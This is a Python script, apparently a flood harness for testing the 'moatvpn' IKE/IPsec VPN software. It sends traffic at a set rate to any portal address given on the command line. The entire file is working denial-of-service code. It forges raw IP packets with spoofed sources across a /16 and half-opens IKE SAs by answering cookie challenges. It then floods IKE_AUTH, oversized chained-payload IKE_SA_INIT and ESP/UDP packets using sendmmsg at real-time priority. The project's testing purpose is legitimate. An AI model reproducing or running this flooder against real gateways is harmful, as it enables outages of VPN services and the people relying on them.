"""A program that floods a portal from its own namespace, at a pace, and says what it has sent.

    python flood.py KIND SOURCE TARGET RATE SECONDS

It prints "ready", sends RATE packets a second for SECONDS once a line comes in, catching up where
it was kept from it, and prints how many it has sent and in what time. TARGET is the portal's
address, SOURCE the one to send from, or that of a network of 65,536 that are forged in turn.
A KIND of esp:SPI or udp:SPI is envelopes on an SA, as protocol 50 or in UDP, each with a number
that has not been yet.
"""

from __future__ import annotations

import ctypes
import os
import socket
import struct
import sys
import time

from moatvpn.config import ConnectionConfig
from moatvpn.counters import Counters
from moatvpn.crypto.sign import generate_private_key, load_private_key
from moatvpn.ike.endpoint import IkeEndpoint
from moatvpn.wire.ike_header import (
    HEADER_LENGTH,
    MAX_MESSAGE_LENGTH,
    NO_SPI,
    Exchange,
    PayloadType,
)

MOST = 20_000  # packets that differ
BATCH = 50  # packets that one system call sends
IP_UDP = 28  # octets of both headers
LIBC = ctypes.CDLL(None, use_errno=True)


class _Iovec(ctypes.Structure):
    _fields_ = (("base", ctypes.c_void_p), ("length", ctypes.c_size_t))


class _Msghdr(ctypes.Structure):
    _fields_ = (
        ("name", ctypes.c_void_p),
        ("name_length", ctypes.c_uint32),
        ("iov", ctypes.c_void_p),
        ("iov_length", ctypes.c_size_t),
        ("control", ctypes.c_void_p),
        ("control_length", ctypes.c_size_t),
        ("flags", ctypes.c_int),
    )


class _Mmsghdr(ctypes.Structure):
    """struct mmsghdr of sendmmsg(2): its msghdr has octets of its own at the end."""

    _fields_ = (("header", _Msghdr), ("sent", ctypes.c_uint32))


class Ring:
    """Packets of equal length that differ in a few octets, to be sent again and again."""

    def __init__(self, packet: bytes, number: int) -> None:
        self._size, self._number = len(packet), number
        self._octets = ctypes.create_string_buffer(packet * number, len(packet) * number)
        self._view = memoryview(self._octets).cast("B")
        address = ctypes.addressof(self._octets)
        self._iovecs = (_Iovec * number)(
            *((address + n * self._size, self._size) for n in range(number))
        )
        base, size = ctypes.addressof(self._iovecs), ctypes.sizeof(_Iovec)
        self._headers = (_Mmsghdr * number)(
            *(((None, 0, base + n * size, 1, None, 0, 0), 0) for n in range(number))
        )
        self._next = 0

    def put(self, number: int, offset: int, octets: bytes) -> None:
        """Write octets at offset of one packet."""
        at = number * self._size + offset
        self._view[at : at + len(octets)] = octets

    def send(self, fd: int) -> int:
        """Send the next BATCH; return how many the kernel took."""
        place = ctypes.byref(self._headers, self._next * ctypes.sizeof(_Mmsghdr))
        self._next = (self._next + BATCH) % self._number
        return max(0, LIBC.sendmmsg(fd, place, BATCH, 0))


def first_request(portal: str) -> bytes:
    """Return a moat's IKE_SA_INIT request."""
    signer = load_private_key(generate_private_key())
    names = ("stranger.example.net", signer, Counters(), os.urandom)
    moat = IkeEndpoint(*names, lambda _: "192.0.2.66")
    config = ConnectionConfig(
        name="portal",
        remote_identity="portal.example.net",
        remote_public_keys=(signer.public_text,),
        local_selectors=("10.66.0.0/24",),
        remote_selectors=("0.0.0.0/0",),
        remote_address=portal,
        initiate=True,
    )
    moat.add_connection(config, 0.0)
    moat.handle_timer(10.0)
    return moat.datagrams_to_send()[0].data


def half_open(source: str, portal: str, number: int) -> list[bytes]:
    """Have the portal open so many IKE SAs, with cookies where it asks; return their SPIs."""
    request, spis = first_request(portal), []
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.bind((source, 501))
        sock.connect((portal, 500))
        sock.settimeout(0.5)
        for _ in range(number):
            asked = os.urandom(8) + request[8:]
            answer = answer_to(asked, sock)
            if answer[8:16] == NO_SPI:
                answer = answer_to(with_cookie(asked, answer), sock)
            spis.append(answer[:16])
    return spis


def answer_to(request: bytes, sock: socket.socket) -> bytes:
    """Return what is answered to a request, which may be lost behind the flood before.

    Raises TimeoutError where nothing is, however often it is sent.
    """
    for _ in range(20):
        sock.send(request)
        try:
            while (answer := sock.recv(2000))[:8] != request[:8]:
                pass  # late, to one before
        except TimeoutError:
            continue
        return answer
    raise TimeoutError("no answer to IKE_SA_INIT")


def with_cookie(request: bytes, answer: bytes) -> bytes:
    """Return request with the one payload of answer, a cookie, before its own."""
    first, cookie = request[16:17], answer[HEADER_LENGTH:]
    length = (len(request) + len(cookie)).to_bytes(4, "big")
    head = request[:16] + bytes((PayloadType.NOTIFY,)) + request[17:24] + length
    return head + first + cookie[1:] + request[HEADER_LENGTH:]


def message(kind: str, portal: str) -> tuple[int, bytes]:
    """Return the port and the payload that a kind of flood sends, but for what differs."""
    request = first_request(portal)
    if kind == "first":
        return 500, request
    if kind == "auth":
        body = bytes((PayloadType.ID_I, 0)) + (200).to_bytes(2, "big") + os.urandom(196)
        head = bytes((PayloadType.SK, 0x20, Exchange.IKE_AUTH, 0x08)) + (1).to_bytes(4, "big")
        return 500, bytes(16) + head + (28 + len(body)).to_bytes(4, "big") + body
    if kind == "huge":
        # One payload after another, each of the least length.
        chain = bytes((PayloadType.VENDOR, 0, 0, 4)) * ((MAX_MESSAGE_LENGTH - 32) // 4)
        head = request[:16] + bytes((PayloadType.VENDOR,)) + request[17:24]
        return 500, head + (32 + len(chain)).to_bytes(4, "big") + chain + bytes((0, 0, 0, 4))
    return 4500, b"\xee" + os.urandom(120)  # an SPI of ESP that nobody has


def main(kind: str, source: str, portal: str, rate: int, seconds: float) -> None:
    """Flood, and print what was sent."""
    network = source.endswith("/16")
    host = socket.inet_aton(source.removesuffix("/16"))
    spis = half_open(source, portal, 40) if kind == "auth" else []
    way, _, sa = kind.partition(":")
    port, payload = (4500, bytes.fromhex(sa) + bytes(1396)) if sa else message(kind, portal)
    protocol, udp = 50, b""
    if not sa or way == "udp":
        protocol = 17
        own = 4500 if sa else 500
        udp = struct.pack("!HHHH", own, port, 8 + len(payload), 0)  # without a checksum
    to = socket.inet_aton(portal)
    head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 0, 0, 0, 64, protocol, 0, host, to)
    number_of = min(rate, MOST)  # so that an SPI comes again after a second
    ring = Ring(head + udp + payload, number_of)
    for place in range(number_of):
        number = place + 1
        if network:
            ring.put(place, 14, (number * 40503 & 0xFFFF).to_bytes(2, "big"))
        if sa:
            ring.put(place, len(head + udp) + 4, (1_000_000 + number).to_bytes(4, "big"))
            continue
        spi = spis[number % len(spis)] if spis else number.to_bytes(8, "big")
        ring.put(place, IP_UDP + (port == 4500), spi)
    # Whatever is answered goes nowhere, and makes no noise.
    with (
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sink,
        socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as raw,
    ):
        sink.bind(("", 0 if sa else 500))
        raw.connect((portal, 0))
        print("ready", flush=True)
        sys.stdin.readline()
        # An attacker has a machine of its own, whatever else this one has to do.
        os.sched_setscheduler(0, os.SCHED_RR, os.sched_param(1))
        sent, start = 0, time.monotonic()
        while sent < rate * seconds:
            # Whoever was kept from sending for a while sends what it owes.
            time.sleep(max(0.0, start + sent / rate - time.monotonic()))
            sent += ring.send(raw.fileno())
        print(sent, time.monotonic() - start, flush=True)


if __name__ == "__main__":
    main(sys.argv[1], sys.argv[2], sys.argv[3], int(sys.argv[4]), float(sys.argv[5]))
